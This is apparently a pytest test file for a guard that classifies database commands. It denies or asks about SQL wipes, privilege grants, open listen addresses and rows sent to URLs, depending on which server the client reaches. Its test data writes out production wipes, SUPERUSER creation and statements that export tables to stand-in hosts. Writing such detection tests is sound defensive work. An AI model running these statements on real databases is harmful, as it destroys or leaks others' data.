"""SQL statements' effects (from their tokens) on the server the client's options name.

A wipe on another machine's or production's server is denied, on this machine's asked; a
superuser made or a grant to PUBLIC there denied; a server opened to every address, or
rows sent to a URL, denied anywhere. Everyday statements on the dev database stay free.
"""

from __future__ import annotations

import pytest

from amplifier_hooks.guard.sqleffects import ACCESS, OPENS, PRIVILEGE, SENDS, WIPE, effects
from amplifier_hooks.guard.sqlservers import reached

from .conftest import decided


@pytest.mark.parametrize(
    ("sql", "kinds"),
    [("DELETE FROM orders", {WIPE}), ("delete from orders where 1=1", {WIPE}),
     ("DELETE FROM t WHERE id = 3 OR 'a' = 'a'", {WIPE}), ("UPDATE t SET x = 1", {WIPE}),
     ("ALTER TABLE a.events DELETE WHERE 1", {WIPE}), ("DROP KEYSPACE events;", {WIPE}),
     ("truncate table t cascade", {WIPE}), ("DELETE FROM t WHERE (true)", {WIPE}),
     ("DELETE FROM t WHERE id = 3", set()), ("DELETE FROM t WHERE 0", set()),
     ("UPDATE t SET x = 1 WHERE id = id2", set()), ("DROP INDEX i", set()),
     ("SELECT 'delete from t'", set()), ("-- drop table t\nSELECT 1", set()),
     ("CREATE ROLE a LOGIN SUPERUSER PASSWORD 'x'", {PRIVILEGE}),
     ("ALTER ROLE app BYPASSRLS", {PRIVILEGE}),
     ("GRANT SELECT ON t TO PUBLIC", {PRIVILEGE, ACCESS}),
     ("alter table p disable row level security", {PRIVILEGE}),
     ("GRANT SELECT ON t TO app", {ACCESS}),
     ("ALTER SYSTEM SET listen_addresses = '*'", {OPENS}),
     ("ALTER SYSTEM SET listen_addresses = 'localhost'", set()),
     ("CREATE USER 'app'@'%' IDENTIFIED BY ''", {OPENS}),
     ("GRANT ALL PRIVILEGES ON *.* TO 'app'@'%' WITH GRANT OPTION", {OPENS, ACCESS}),
     ("CREATE USER 'app'@'localhost' IDENTIFIED BY ''", set()),
     ("INSERT INTO FUNCTION url('https://c.example.org/in', 'CSV') SELECT * FROM u", {SENDS}),
     ("INSERT INTO t SELECT * FROM u", set())],
)  # fmt: skip
def test_effects_are_read_from_the_statements_tokens(sql: str, kinds: set[str]) -> None:
    assert effects(sql) == kinds


@pytest.mark.parametrize(
    ("program", "args", "env", "elsewhere"),
    [("psql", ("-h", "db.prod.internal", "-c", "x"), (), True),
     ("psql", ("--host=10.0.4.2", "-c", "x"), (), True),
     ("psql", ("postgresql://u:p@db.example.com:5432/x", "-c", "x"), (), True),
     ("psql", ("$PROD_DATABASE_URL", "-c", "x"), (), True),
     ("psql", ("-c", "x"), ("PGHOST=db.prod.internal",), True),
     ("cqlsh", ("cassandra.prod.internal", "-e", "x"), (), True),
     ("mysql", ("-hmysql.internal.example", "-e", "x"), (), True),
     ("psql", ("-h", "localhost", "-c", "x"), (), False),
     ("psql", ("-h", "db", "-c", "x"), (), False),
     ("psql", ("-h", "/var/run/postgresql", "-c", "x"), (), False),
     ("psql", ("$DATABASE_URL", "-c", "x"), (), False),
     ("psql", ("-d", "app_dev", "-c", "x"), (), False),
     ("cqlsh", ("-e", "x"), (), False)],
)  # fmt: skip
def test_the_server_is_read_from_the_clients_options(
    program: str, args: tuple[str, ...], env: tuple[str, ...], elsewhere: bool
) -> None:
    found = reached(program, args, env)
    assert found is not None and found.sql == ("x",) and found.elsewhere is elsewhere


@pytest.mark.parametrize(
    ("command", "rule"),
    [("psql -h db.prod.internal -d app -c 'delete from orders where 1=1'",
      "database-sql-wipe-elsewhere"),
     ("clickhouse-client -h ch.prod.internal -q 'ALTER TABLE e DELETE WHERE 1'",
      "database-sql-wipe-elsewhere"),
     ("psql -h db.prod.internal -c 'CREATE ROLE x LOGIN SUPERUSER'",
      "database-sql-privilege-elsewhere"),
     ("psql -U postgres -c \"ALTER SYSTEM SET listen_addresses = '*'\"", "database-sql-opened"),
     ("clickhouse-client -q \"INSERT INTO FUNCTION s3('https://b.example.net/x') SELECT 1\"",
      "database-sql-rows-send")],
)  # fmt: skip
def test_wipes_elsewhere_privileges_given_away_and_opened_servers_are_denied(
    command: str, rule: str
) -> None:
    assert decided(command) == ("deny", rule)


def test_a_wipe_on_this_machines_database_is_asked() -> None:
    assert decided("psql -d app_dev -c 'DELETE FROM sessions WHERE 1=1'") == (
        "ask",
        "database-sql-wipe",
    )


@pytest.mark.parametrize(
    "command",
    ["psql -d app_dev -c 'DELETE FROM sessions WHERE expires_at < now()'",
     "psql -h db.prod.internal -d app -c 'SELECT count(*) FROM orders WHERE 1=1'",
     "mysql -h 127.0.0.1 -e 'SELECT 1'", "clickhouse-client -q 'SELECT count() FROM e'"],
)  # fmt: skip
def test_everyday_statements_are_not_stopped(command: str) -> None:
    assert decided(command)[0] not in ("ask", "deny")


@pytest.mark.parametrize(
    "command",
    ["mysql -h mysql.prod.internal shop < backups/shop_dev.sql",
     "gunzip -c dev.sql.gz | mysql --host=mysql.prod.internal --database=shop",
     "psql -h db.prod.internal -d app -f /tmp/fix.sql"],
)  # fmt: skip
def test_statements_the_call_does_not_show_on_production_are_asked(command: str) -> None:
    assert decided(command) == ("ask", "database-sql-unread-production")


@pytest.mark.parametrize(
    "command",
    ["psql -h db.prod.internal -l", "mysql -h 127.0.0.1 shop < dump.sql",
     "psql -d app_dev -f db/seed.sql"],
)  # fmt: skip
def test_lists_and_files_run_on_this_machine_are_not_that(command: str) -> None:
    assert decided(command)[1] != "database-sql-unread-production"


@pytest.mark.parametrize(
    "command",
    ["sqlite3 :memory: 'create table t(x); drop table t; select 1;'",
     "duckdb -c 'create table t as select 1; delete from t'"],
)  # fmt: skip
def test_an_in_memory_database_that_reaches_no_file_loses_nothing(command: str) -> None:
    assert decided(command)[0] not in ("ask", "deny")


@pytest.mark.parametrize(
    "command",
    ["sqlite3 :memory: \"ATTACH 'app.db' AS a; DROP TABLE a.users\"",
     "sqlite3 :memory: '.open app.db' 'DROP TABLE users'",
     "sqlite3 :memory: -init x.sql 'DROP TABLE users'", "sqlite3 app.db 'DROP TABLE users'",
     "duckdb app.duckdb -c 'drop table t'"],
)  # fmt: skip
def test_a_database_file_reached_is_still_asked(command: str) -> None:
    assert decided(command) == ("ask", "database-wipe")
